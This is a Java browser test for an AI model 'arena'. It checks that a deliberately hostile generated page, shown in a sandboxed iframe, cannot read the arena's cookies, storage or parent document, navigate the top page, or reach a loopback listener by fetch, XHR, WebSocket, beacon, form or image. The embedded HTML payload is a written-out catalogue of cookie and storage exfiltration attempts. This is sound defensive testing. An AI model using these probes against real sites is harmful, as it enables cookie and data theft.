package dev.autobench.arena.sandbox;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.sun.net.httpserver.HttpServer;
import dev.autobench.arena.support.ArenaFixtures;
import dev.autobench.arena.support.Voters;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.openqa.selenium.By;
import org.openqa.selenium.JavascriptExecutor;
import org.openqa.selenium.WebElement;
import org.openqa.selenium.chrome.ChromeDriver;
import org.openqa.selenium.chrome.ChromeDriverService;
import org.openqa.selenium.chrome.ChromeOptions;
import org.openqa.selenium.support.ui.WebDriverWait;

import java.io.File;
import java.net.InetSocketAddress;
import java.net.URL;
import java.nio.file.Files;
import java.sql.Connection;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.util.List;
import java.util.UUID;
import java.util.concurrent.CopyOnWriteArrayList;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * A hostile solution, shown the way visitors see it (inside the arena page's sandboxed iframe in a
 * real Chromium), tries every escape it can: the arena's cookie and storage, the parent document,
 * navigating the top page, and every kind of request to a listener on loopback (which the browser
 * could reach: loopback bypasses the test proxy, so only the sandbox and the CSP stand in the way).
 * It writes what it saw into its own frame; the test reads that, the listener and the top page.
 */
@QuarkusTest
class SandboxEscapeTest {

    private static final String CHROMIUM = "/usr/bin/chromium";
    private static final String CHROMEDRIVER = "/usr/bin/chromedriver";
    private static final ObjectMapper JSON = new ObjectMapper();

    @TestHTTPResource("/")
    URL base;

    private HttpServer listener;
    private final List<String> received = new CopyOnWriteArrayList<>();
    private ChromeDriver driver;

    @BeforeEach
    void setUp() throws Exception {
        listener = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
        listener.createContext("/", exchange -> {
            received.add(exchange.getRequestMethod() + " " + exchange.getRequestURI());
            exchange.sendResponseHeaders(204, -1);
            exchange.close();
        });
        listener.start();
        ArenaFixtures.reset();
        seedHostileMatch("http://127.0.0.1:" + listener.getAddress().getPort());
        Voters.pair();
        driver = chromium();
    }

    @AfterEach
    void tearDown() {
        if (driver != null) {
            driver.quit();
        }
        listener.stop(0);
    }

    @Test
    void hostileArtifactCannotEscapeItsFrame() throws Exception {
        String arena = base.toString().replaceAll("/$", "");
        driver.get(arena + "/");
        js("localStorage.setItem('arena-secret', 'top-secret'); sessionStorage.setItem('arena-secret', 'top-secret');");
        WebDriverWait wait = new WebDriverWait(driver, Duration.ofSeconds(20));
        wait.until(d -> d.findElements(By.cssSelector(".duel iframe")).size() == 2);
        assertThat(driver.manage().getCookieNamed(Voters.COOKIE)).as("the arena set its voter cookie").isNotNull();

        List<WebElement> frames = driver.findElements(By.cssSelector(".duel iframe"));
        for (WebElement frame : frames) {
            assertThat(frame.getAttribute("sandbox")).isEqualTo("allow-scripts");
            driver.switchTo().frame(frame);
            String reportText = wait.until(d -> {
                List<WebElement> report = d.findElements(By.id("report"));
                String text = report.isEmpty() ? "" : report.get(0).getAttribute("data-done");
                return "yes".equals(text) ? report.get(0).getText() : null;
            });
            driver.switchTo().defaultContent();
            JsonNode report = JSON.readTree(reportText);
            assertThat(report.path("cookie").asText()).as("document.cookie").startsWith("blocked");
            assertThat(report.path("localStorage").asText()).startsWith("blocked");
            assertThat(report.path("sessionStorage").asText()).startsWith("blocked");
            assertThat(report.path("indexedDB").asText()).startsWith("blocked");
            assertThat(report.path("parentDocument").asText()).startsWith("blocked");
            assertThat(report.path("parentCookie").asText()).startsWith("blocked");
            assertThat(report.path("fetch").asText()).startsWith("blocked");
            assertThat(report.path("fetchArena").asText()).startsWith("blocked");
            assertThat(report.path("xhr").asText()).startsWith("blocked");
            assertThat(report.path("websocket").asText()).startsWith("blocked");
            assertThat(report.path("popup").asText()).startsWith("blocked");
        }
        // fire-and-forget attempts (img, form, sendBeacon, prefetch, css, top navigation) get time to arrive if they could
        await().during(Duration.ofMillis(1500)).atMost(Duration.ofSeconds(5)).until(received::isEmpty);
        assertThat(received).as("requests that reached the listener").isEmpty();
        assertThat(driver.getCurrentUrl()).isEqualTo(arena + "/");
        assertThat(js("return localStorage.getItem('arena-secret');")).isEqualTo("top-secret");
        assertThat(driver.getWindowHandles()).hasSize(1);

        // control: this browser can reach the listener, so the silence above is the sandbox's doing
        driver.get("http://127.0.0.1:" + listener.getAddress().getPort() + "/control");
        await().atMost(Duration.ofSeconds(60)).until(() -> received.contains("GET /control"));
    }

    private Object js(String script) {
        return ((JavascriptExecutor) driver).executeScript(script);
    }

    private static ChromeDriver chromium() throws Exception {
        System.setProperty("webdriver.chrome.driver", CHROMEDRIVER);
        ChromeOptions options = new ChromeOptions();
        options.setBinary(CHROMIUM);
        options.addArguments("--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
                "--disable-background-networking", "--disable-component-update", "--disable-sync",
                "--disable-dev-shm-usage", "--user-data-dir=" + Files.createTempDirectory("arena-sandbox-chromium"),
                "--window-size=1280,900", "--proxy-server=http://127.0.0.1:9");
        ChromeDriverService service = new ChromeDriverService.Builder()
                .usingDriverExecutable(new File(CHROMEDRIVER)).usingAnyFreePort().build();
        ChromeDriver driver = new ChromeDriver(service, options);
        driver.manage().timeouts().pageLoadTimeout(Duration.ofSeconds(30));
        return driver;
    }

    private static void seedHostileMatch(String listener) throws Exception {
        String html = HOSTILE.replace("LISTENER", listener);
        try (Connection c = ArenaFixtures.connect()) {
            UUID task = ArenaFixtures.insertTask(c, LocalDate.now(ZoneOffset.UTC), "Escape room", "games", Instant.now());
            for (int m = 0; m < 2; m++) {
                UUID model = ArenaFixtures.insertModel(c, "escape-" + m + "-" + UUID.randomUUID().toString().substring(0, 6),
                        "Escape " + m, "openai");
                UUID submission = ArenaFixtures.insertSubmission(c, task, model, html);
                try (var st = c.prepareStatement("""
                        INSERT INTO artifacts (submission_id, status, html, sha256, size_bytes, screenshot_png,
                                               screenshot_status, rendered_at)
                        VALUES (?, 'rendered', ?, ?, ?, ?, 'captured', now())""")) {
                    st.setObject(1, submission);
                    st.setString(2, html);
                    st.setString(3, ArenaFixtures.sha256(html));
                    st.setInt(4, html.length());
                    st.setBytes(5, ArenaFixtures.PNG);
                    st.executeUpdate();
                }
            }
        }
    }

    /** Every escape a generated page could try; each result is "blocked: …" or what leaked. */
    private static final String HOSTILE = """
            <!doctype html><html><head><meta charset="utf-8">
            <link rel="prefetch" href="LISTENER/prefetch"><link rel="stylesheet" href="LISTENER/css">
            <style>body { background: url('LISTENER/background'); }</style>
            </head><body>
            <img src="LISTENER/img"><script src="LISTENER/script.js"></script>
            <iframe src="LISTENER/frame"></iframe>
            <form id="f" action="LISTENER/form" method="post" target="_top"><input name="cookie"></form>
            <pre id="report"></pre>
            <script>
            const r = {};
            const probe = (name, f) => { try { const v = f(); r[name] = (v === undefined || v === null || v === '') ? 'blocked: empty' : 'LEAKED: ' + String(v); } catch (e) { r[name] = 'blocked: ' + e.name; } };
            probe('cookie', () => document.cookie);
            probe('localStorage', () => localStorage.getItem('arena-secret') ?? localStorage.length);
            probe('sessionStorage', () => sessionStorage.getItem('arena-secret') ?? sessionStorage.length);
            probe('indexedDB', () => { indexedDB.open('x'); return 'opened'; });
            probe('parentDocument', () => parent.document.title);
            probe('parentCookie', () => top.document.cookie);
            try { top.location.href = 'LISTENER/top'; } catch (e) { }
            probe('popup', () => window.open('LISTENER/popup'));
            try { document.getElementById('f').submit(); } catch (e) { }
            try { navigator.sendBeacon('LISTENER/beacon', 'x'); } catch (e) { }
            try { new Image().src = 'LISTENER/image'; } catch (e) { }
            const settle = (name, p) => p.then(() => { r[name] = 'LEAKED: answered'; }, (e) => { r[name] = 'blocked: ' + e; });
            const ws = new Promise((ok, ko) => { try { const s = new WebSocket('LISTENER'.replace('http', 'ws') + '/ws'); s.onopen = ok; s.onerror = () => ko('error'); } catch (e) { ko(e.name); } });
            const xhr = new Promise((ok, ko) => { try { const x = new XMLHttpRequest(); x.open('GET', 'LISTENER/xhr'); x.onload = ok; x.onerror = () => ko('error'); x.send(); } catch (e) { ko(e.name); } });
            Promise.allSettled([
              settle('fetch', fetch('LISTENER/fetch', { mode: 'no-cors' })),
              settle('fetchArena', fetch('/api/arena/match', { credentials: 'include' })),
              settle('xhr', xhr),
              settle('websocket', ws),
            ]).then(() => {
              const out = document.getElementById('report');
              out.textContent = JSON.stringify(r);
              out.setAttribute('data-done', 'yes');
            });
            </script></body></html>
            """;
}
